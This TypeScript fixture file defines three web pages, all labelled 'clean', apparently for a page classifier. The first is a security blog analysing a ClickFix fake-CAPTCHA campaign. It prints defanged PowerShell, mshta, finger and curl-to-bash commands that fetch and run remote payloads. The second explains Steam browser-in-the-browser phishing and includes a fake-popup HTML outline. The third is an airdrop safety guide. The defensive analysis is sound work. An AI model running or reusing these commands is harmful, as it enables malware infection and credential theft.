import { type Entry } from '../entry.js';
import { analytics, css, doc } from '../parts/h-parts.js';

const esc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

export const entries: Entry[] = [
  // h-ok-blog-clickfix-analysis
{
  id: 'h-ok-blog-clickfix-analysis',
  label: 'clean',
  kind: 'security-blog',
  url: 'https://blog.halyard-security.com/2026/10/clickfix-fake-captcha-campaign-lumma/',
  body: doc({
    title: 'Inside a ClickFix campaign: fake CAPTCHAs delivering Lumma Stealer | Halyard Security Research',
    css: `body{margin:0;font-family:Charter,Georgia,serif;color:#1d1d1d;line-height:1.7}header{font-family:Inter,Arial,sans-serif;display:flex;gap:20px;padding:16px 40px;border-bottom:1px solid #eee}article{max-width:740px;margin:30px auto;padding:0 20px}pre{font-family:"JetBrains Mono",monospace;font-size:13px;background:#f6f6f6;padding:14px;overflow:auto;white-space:pre-wrap;word-break:break-all}figure{border:1px solid #ddd;padding:14px;font-family:Arial;background:#fafafa}figure .fk{border:1px solid #ccc;width:280px;padding:12px;background:#fff}table{border-collapse:collapse;font-size:14px;font-family:Inter,Arial}td,th{border:1px solid #ddd;padding:6px 10px}`,
    body: `<header><b>Halyard Security</b><span>Research</span><span>Advisories</span><span>Services</span></header>
<article><h1>Inside a ClickFix campaign: fake CAPTCHAs delivering Lumma Stealer</h1><p><i>By Jonas Wirth · October 22, 2026 · 9 min read</i></p>
<p>Since August we've tracked more than 1,900 compromised WordPress sites injecting a fake "Verify you are human" overlay. Unlike drive-by downloads, ClickFix makes the <b>victim</b> run the payload: the page silently copies a command to the clipboard and tells the user to press <kbd>Win</kbd>+<kbd>R</kbd>, <kbd>Ctrl</kbd>+<kbd>V</kbd>, <kbd>Enter</kbd>.</p>
<figure><div class="fk">☐ I'm not a robot<br><small>Verification steps: 1. Press Windows Button "⊞" + R 2. Press CTRL + V 3. Press Enter</small></div><figcaption>Figure 1 — static screenshot of the lure (recreated; defanged).</figcaption></figure>
<p>The injected loader (deobfuscated, URLs defanged) writes this to the clipboard:</p>
<pre>${esc(`const cmd = 'powershell -w h -c "iex (iwr hxxps://check-verify[.]live/v2.txt -UseBasicParsing).Content" # ✅ "I am not a robot - reCAPTCHA Verification ID: 7721"';
navigator.clipboard.writeText(cmd);`)}</pre>
<p>The trailing comment is what the user sees in the narrow Run dialog, so the visible part looks like a harmless confirmation. Variants we saw:</p>
<table><tr><th>Variant</th><th>Command</th></tr><tr><td>mshta</td><td><code>mshta hxxps://cdn-dl[.]top/verify.mp4 # ✅ Human verification</code></td></tr><tr><td>finger</td><td><code>cmd /c finger gc@85.x.x[.]x | cmd</code></td></tr><tr><td>macOS</td><td><code>/bin/bash -c "$(curl -fsSL hxxps://mac-verify[.]cc/i.sh)"</code></td></tr></table>
<h2>Detection ideas</h2><ul><li>Alert on <code>explorer.exe</code> spawning <code>powershell.exe</code>/<code>mshta.exe</code> via the RunMRU key.</li><li>Block <code>mshta.exe</code> with WDAC/AppLocker where it isn't needed.</li><li>User training: no CAPTCHA ever asks you to paste anything.</li></ul>
<h2>IOCs</h2><pre>check-verify[.]live
cdn-dl[.]top
SHA256 3f1c0e9b2a44d7c1e58b6f0a9d3e72c4b1a5f6e8d9c0b7a6e5f4d3c2b1a09f8e</pre></article>`,
  }),
},
  // h-ok-blog-bitb-explainer
{
  id: 'h-ok-blog-bitb-explainer',
  label: 'clean',
  kind: 'security-blog',
  url: 'https://infosec-notes.dev/browser-in-the-browser-steam',
  body: doc({
    title: 'Browser-in-the-Browser attacks against Steam users, explained',
    css: `body{margin:0;font-family:-apple-system,"Segoe UI",sans-serif;color:#222;line-height:1.7}main{max-width:720px;margin:40px auto;padding:0 20px}.demo{border:1px solid #ccc;border-radius:8px;overflow:hidden;margin:20px 0;font-size:13px}.demo .t{background:#dee1e6;padding:6px 10px}.demo .a{padding:6px 10px;border-bottom:1px solid #ddd;background:#fff}.demo .b{background:#171a21;color:#c7d5e0;padding:20px}pre{background:#f5f5f5;padding:12px;font-size:13px;overflow:auto}`,
    body: `<main><h1>Browser-in-the-Browser attacks against Steam users, explained</h1><p>Tiago Ramos · 5 min read · tags: phishing, steam, bitb</p>
<p>BitB pages fake an OAuth popup <b>inside</b> the page using HTML and CSS, including a fake title bar and address bar that shows <code>steamcommunity.com</code>. Because it is just a <code>&lt;div&gt;</code>, you can't drag it outside the browser window — the quickest test.</p>
<div class="demo"><div class="t">Steam Community :: Sign In — Google Chrome (fake)</div><div class="a">🔒 https://steamcommunity.com/openid/loginform/</div><div class="b">Sign in — [this is a static illustration, no form]</div></div>
<p>The HTML usually looks like this:</p><pre>&lt;div id="bw" style="position:fixed;top:70px;left:50%"&gt;
  &lt;div class="titlebar"&gt;Steam Community :: Sign In&lt;/div&gt;
  &lt;div class="addressbar"&gt;🔒 https://steamcommunity.com/openid/...&lt;/div&gt;
  &lt;form id="sl"&gt;...account name, password, Steam Guard code...&lt;/form&gt;
&lt;/div&gt;</pre>
<h2>How to protect yourself</h2><ol><li>Try to drag the popup outside the browser window.</li><li>Use a password manager: it won't autofill on the wrong domain.</li><li>Sign in to Steam via the Steam Mobile App QR code instead.</li></ol></main>`,
  }),
},
  // h-ok-news-crypto-airdrop-guide
{
  id: 'h-ok-news-crypto-airdrop-guide',
  label: 'clean',
  kind: 'crypto-news',
  url: 'https://www.blockdesk-news.com/learn/how-to-claim-airdrops-safely',
  body: doc({
    title: 'How to claim airdrops safely (and avoid fake claim sites) | BlockDesk',
    css: `body{margin:0;font-family:Georgia,serif;color:#222;line-height:1.7}header{font-family:Arial;background:#111;color:#fff;padding:12px 40px;display:flex;gap:20px}article{max-width:720px;margin:30px auto;padding:0 20px}aside{font-family:Arial;font-size:14px;background:#f4f4f4;padding:14px;border-radius:6px}.ad{font-family:Arial;font-size:11px;color:#888;text-align:center;border:1px solid #eee;padding:30px;margin:20px 0}`,
    body: `<header><b>BlockDesk</b><span>Markets</span><span>Policy</span><span>Tech</span><span>Learn</span></header>
<article><h1>How to claim airdrops safely (and avoid fake claim sites)</h1><p><i>Updated Nov 20, 2026 · Reviewed by our editorial team</i></p>
<p>Airdrops reward early users of a protocol with tokens. Because they create urgency and big numbers, they're the favourite lure for wallet drainers: search ads and replies on X point to look-alike domains such as "claim.zro-airdrop[.]network" instead of the project's real site.</p>
<aside><b>Checklist</b><ol><li>Get the claim link from the project's official docs or verified account.</li><li>Claiming should only need a transaction to the official distributor contract — not a Permit or "setApprovalForAll".</li><li>Never enter a seed phrase to "check eligibility".</li><li>Use a fresh wallet with little value for claims.</li></ol></aside>
<div class="ad">Advertisement</div>
<p>Real claim pages usually show the distributor contract address, which you can verify on Etherscan. If a page wants a signature that your wallet labels "Permit2" or lists many tokens, close it.</p></article>`,
  }),
},
];
